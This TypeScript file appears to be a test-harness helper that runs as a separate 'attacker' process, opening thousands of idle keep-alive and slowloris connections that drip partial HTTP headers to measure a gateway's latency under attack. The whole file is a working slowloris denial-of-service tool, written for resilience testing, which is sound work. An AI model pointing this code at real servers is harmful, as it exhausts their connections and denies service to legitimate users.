import { connect, type Socket } from 'node:net';

/**
 * The slowloris case's attacker, in a process of its own so that its thousands of sockets and
 * writes never delay the measuring client's loop: what the case measures is the gateway's
 * latency under attack, not the test process's.
 *
 * `node attacker.js <host> <port> <idle> <slowloris> <holdMs>` opens `idle` keep-alive
 * connections that each make one request and then say nothing, then `slowloris` connections
 * that start a head and never finish it, dripping one header byte per connection per second —
 * spread over the second, as a real attacker's independent connections would be, so the harness
 * does not add a synchronised burst of its own. It prints `held` once all are open, holds them
 * `holdMs`, prints `open <slowloris still open> <idle still open>` and exits.
 */

const [host = '127.0.0.1', portText = '0', idleText = '0', slowText = '0', holdText = '0'] = process.argv.slice(2);
const port = Number(portText);
const DRIP_TICK_MS = 10;

function open(): Promise<Socket> {
  return new Promise((resolve, reject) => {
    const socket = connect({ host, port }, () => resolve(socket));
    socket.once('error', reject);
  });
}

async function idleConnection(): Promise<Socket> {
  const socket = await open();
  socket.on('error', () => {});
  await new Promise<void>((resolve) => {
    socket.once('data', () => resolve());
    socket.once('close', () => resolve());
    socket.write(`GET /echo HTTP/1.1\r\nHost: ${host}\r\nConnection: keep-alive\r\n\r\n`);
  });
  socket.on('data', () => {});
  return socket;
}

async function inBatches(count: number, make: () => Promise<Socket>): Promise<Socket[]> {
  const sockets: Socket[] = [];
  for (let i = 0; i < count; i += 100) {
    sockets.push(...(await Promise.all(Array.from({ length: Math.min(100, count - i) }, make))));
  }
  return sockets;
}

async function main(): Promise<void> {
  const idle = await inBatches(Number(idleText), idleConnection);
  const lorises = await inBatches(Number(slowText), open);
  for (const s of lorises) {
    s.on('error', () => {});
    s.on('data', () => {});
    s.write(`GET /echo HTTP/1.1\r\nHost: ${host}\r\nX-Slow: `);
  }
  const perTick = Math.max(1, Math.ceil(lorises.length / (1000 / DRIP_TICK_MS)));
  let next = 0;
  const dripper = setInterval(() => {
    for (let i = 0; i < perTick && lorises.length > 0; i++) {
      const s = lorises[next]!;
      next = (next + 1) % lorises.length;
      if (!s.destroyed) s.write('a');
    }
  }, DRIP_TICK_MS);
  process.stdout.write('held\n');
  await new Promise((resolve) => setTimeout(resolve, Number(holdText)));
  clearInterval(dripper);
  const openCount = (sockets: Socket[]) => sockets.filter((s) => !s.destroyed).length;
  process.stdout.write(`open ${openCount(lorises)} ${openCount(idle)}\n`);
  for (const s of [...idle, ...lorises]) s.destroy();
  process.exit(0);
}

main().catch((error: Error) => {
  process.stderr.write(`attacker: ${error.message}\n`);
  process.exit(1);
});
